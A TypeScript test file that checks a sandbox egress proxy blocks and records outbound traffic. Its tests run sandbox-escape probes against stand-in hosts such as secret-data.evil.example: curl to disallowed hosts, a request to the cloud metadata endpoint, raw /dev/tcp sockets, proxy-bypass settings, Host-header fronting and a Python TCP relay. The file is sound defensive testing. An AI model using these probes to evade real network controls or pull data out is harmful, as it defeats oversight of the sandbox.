import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { eq } from 'drizzle-orm';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { egressRequests, publications } from '../../src/store/schema.ts';
import { startEgress } from '../../src/vault/egress/control.ts';
import type { ListenerHandle, ListenerRole } from '../../src/vault/egress/protocol.ts';
import { createTestDatabase } from '../support/database.ts';
import { createFixture } from '../support/fixture.ts';
import { silent } from '../vault/support/egress.ts';
import { startUpstream } from '../vault/support/upstream.ts';
import { createHarness, finish, type Harness, until } from './harness.ts';

const database = await createTestDatabase();
const folder = mkdtempSync(join(tmpdir(), 'tagalong-transparent-'));
const upstream = await startUpstream();
const internal = createServer((request, response) => {
  response.end(`internal ${request.url} ${request.headers['x-tagalong-session']}\n`);
});
await new Promise<void>((resolve) => internal.listen(join(folder, 'internal.sock'), resolve));
const host = 'api.example.com';
const control = await startEgress({
  logger: silent,
  start: {
    databaseUrl: database.url,
    rootKey: Buffer.alloc(32, 7).toString('base64url'),
    upstreams: [{ host, pathPrefix: '/', target: `${upstream.origin}/`, scope: 'all' }],
    modelCredentials: {},
    platformSocket: join(folder, 'platform.sock'),
    internalSocket: join(folder, 'internal.sock'),
  },
});
const fixture = await createFixture(database.database, { provider: 'slack' });
await database.database
  .update(publications)
  .set({ policy: { allowed_hosts: [host] } })
  .where(eq(publications.id, fixture.publicationId));
const { caCertificatePem } = await control.openSession(fixture);
let harness: Harness;

beforeAll(async () => {
  harness = await createHarness();
  upstream.answer = (request, response) => response.end(`${request.method} ${request.url} through\n`);
});
afterAll(async () => {
  await control.stop();
  internal.close();
  upstream.close();
  harness.clear();
  rmSync(folder, { recursive: true, force: true });
});

/** What is run has no proxy variable left. */
const withoutProxy = `unset HTTP_PROXY HTTPS_PROXY http_proxy https_proxy ALL_PROXY all_proxy NODE_USE_ENV_PROXY
`;
const run = (script: string) =>
  harness.run(withoutProxy + script, {
    caCertificatePem,
    onListener: (handle: ListenerHandle, role: ListenerRole) =>
      control.addListener(fixture.sessionId, handle, role),
  });
const records = async () => {
  await new Promise((resolve) => setTimeout(resolve, 400));
  return database.database
    .select()
    .from(egressRequests)
    .where(eq(egressRequests.sessionId, fixture.sessionId))
    .orderBy(egressRequests.id);
};

test('requests that came that way are recorded as any other', async () => {
  await run(`curl -sS 'https://${host}/recorded?token=1'`);
  expect((await records()).find(({ path }) => path === '/recorded')).toMatchObject({
    method: 'GET',
    scheme: 'https',
    host,
    port: 443,
    decision: 'allowed',
    rule: `host:${host}`,
  });
});

test('tagalong.internal is reached over plain http, as this session', async () => {
  const { stdout } = await run('curl -sS http://tagalong.internal/mcp/slack');
  expect(stdout).toBe(`internal /mcp/slack ${fixture.sessionId}\n`);
});

test('an allowed host over plain http is refused in words', async () => {
  const { stdout } = await run(`curl -sS http://${host}/x`);
  expect(JSON.parse(stdout).error.rule).toBe('scheme.https_only');
});

test('a name that is not allowed does not exist, and asking for it tells nobody', async () => {
  const before = upstream.seen.length;
  const { stdout } = await run(`
    curl -sS https://secret-data.evil.example/ 2>&1 | head -1
    getent hosts secret-data.evil.example || echo 'no such name'
    getent ahosts ${host} | head -1`);
  expect(stdout).toMatch(/Could not resolve host/);
  expect(stdout).toMatch(/no such name\n198\.1[89]\.\d+\.\d+/);
  expect(upstream.seen.length).toBe(before);
  const refused = (await records()).filter(({ rule }) => rule === 'dns.not_allowed');
  expect(refused.filter(({ host: name }) => name === 'secret-data.evil.example')).toHaveLength(1);
});

test('an address of its own choice leads a client nowhere else', async () => {
  const before = upstream.seen.length;
  const { stdout } = await run(`
    curl -sS --max-time 5 --resolve evil.example:443:93.184.216.34 https://evil.example/ 2>&1 | head -1
    curl -sSk --max-time 5 https://93.184.216.34/ 2>&1 | head -1
    curl -sS --max-time 5 http://169.254.169.254/latest/meta-data/; echo
    curl -sS --max-time 5 --connect-to ::93.184.216.34:443 https://${host}/pinned
    (exec 3<>/dev/tcp/8.8.8.8/53) 2>/dev/null && echo open || echo closed
    (exec 3<>/dev/tcp/1.1.1.1/853) 2>/dev/null && echo open || echo closed
    curl -sS --max-time 5 -6 'https://[2606:4700::1111]/' 2>&1 | head -1 | cut -c1-10`);
  const lines = stdout.trim().split('\n');
  expect(lines[0]).toMatch(/^curl: \(35\)/);
  expect(lines[1]).toMatch(/^curl: \(35\)/);
  expect(JSON.parse(lines[2] ?? '').error.rule).toBe('host.ip_literal');
  expect(lines.slice(3)).toEqual([
    'GET /pinned through',
    'closed',
    'closed',
    expect.stringMatching(/^curl: \(7/),
  ]);
  expect(upstream.seen.length).toBe(before + 1);
  const rules = (await records()).map(({ rule }) => rule);
  expect(rules).toContain('host.not_allowed');
  expect(rules).toContain('tls.name');
});

test('no setting of a client leads around the proxy, to approved hosts neither', async () => {
  const before = upstream.seen.length;
  const { stdout } = await run(`
    NO_PROXY='*' curl -sS --max-time 5 https://evil.example/ 2>&1 | head -1 | cut -c1-9
    curl -sS --max-time 5 --noproxy '*' https://evil.example/ 2>&1 | head -1 | cut -c1-9
    ALL_PROXY=http://93.184.216.34:3128 curl -sS --max-time 5 https://${host}/elsewhere 2>&1 | head -1 | cut -c1-9
    curl -sS --max-time 5 -x socks5h://93.184.216.34:1080 https://${host}/socks 2>&1 | head -1 | cut -c1-9
    NO_PROXY='*' curl -sS --max-time 5 https://${host}/direct`);
  const lines = stdout.trim().split('\n');
  expect(lines.slice(0, 2)).toEqual(['curl: (6)', 'curl: (6)']);
  for (const line of lines.slice(2, 4)) expect(line).toMatch(/^curl: \((7|97)/);
  // It is caught all the same, and recorded.
  expect(lines[4]).toBe('GET /direct through');
  expect(upstream.seen.length).toBe(before + 1);
  expect((await records()).map(({ path }) => path)).toContain('/direct');
});

test('a relay inside, on a port of its own, is asked about each request all the same', async () => {
  const { stdout } = await run(`
    /usr/bin/python3 - <<'RELAY' &
import socket, threading
def pump(a, b):
    try:
        while data := a.recv(65536): b.sendall(data)
    except OSError: pass
    finally:
        for s in (a, b):
            try: s.shutdown(socket.SHUT_RDWR)
            except OSError: pass
listener = socket.create_server(('127.0.0.1', 8080))
while True:
    a, _ = listener.accept()
    b = socket.create_connection(('127.0.0.1', 3128))
    for x, y in ((a, b), (b, a)): threading.Thread(target=pump, args=(x, y), daemon=True).start()
RELAY
    relay=$!
    until (exec 3<>/dev/tcp/127.0.0.1/8080) 2>/dev/null; do sleep 0.05; done
    curl -sS -x http://127.0.0.1:8080 https://${host}/relayed
    curl -sS -x http://127.0.0.1:8080 -o /dev/null -w '%{http_connect}\n' https://evil.example/ 2>/dev/null
    kill $relay`);
  expect(stdout).toBe('GET /relayed through\n403\n');
});

test('no inspector can be opened in the egress process, and nothing from outside changes how it runs', () => {
  const read = (name: string) => readFileSync(`/proc/${control.pid}/${name}`, 'utf8');
  expect(read('cmdline').split('\0')).toContain('--disable-sigusr1');
  expect(read('cmdline')).not.toContain('--inspect');
  const environment = read('environ').split('\0').filter(Boolean);
  // How Node finds the channel to its parent, and what it compiled before in a folder of ours.
  expect(environment.filter((line) => !/^NODE_CHANNEL_/.test(line))).toEqual([
    expect.stringMatching(/^NODE_COMPILE_CACHE=.*\/node_modules\/\.cache\/tagalong$/),
  ]);
});

test('Host and TLS must name the same', async () => {
  const { stdout } = await run(
    `curl -sS -H 'Host: evil.example' https://${host}/fronted -w '%{http_code}' -o /dev/null`,
  );
  expect(stdout).toBe('421');
});

test('after the egress process died, its successor serves the same sandbox, names too', async () => {
  const sandbox = await harness.port.open(
    harness.spec(
      [
        '/bin/bash',
        '-c',
        `${withoutProxy} read; curl -sS --retry 20 --retry-all-errors --retry-delay 1 https://${host}/again`,
      ],
      {
        caCertificatePem,
        onListener: (handle, role) => control.addListener(fixture.sessionId, handle, role),
      },
    ),
  );
  const first = control.pid;
  process.kill(first ?? 0, 'SIGKILL');
  await until(() => control.pid !== undefined && control.pid !== first);
  sandbox.stdin.write('\n');
  expect((await finish(sandbox)).stdout).toContain('GET /again through');
});
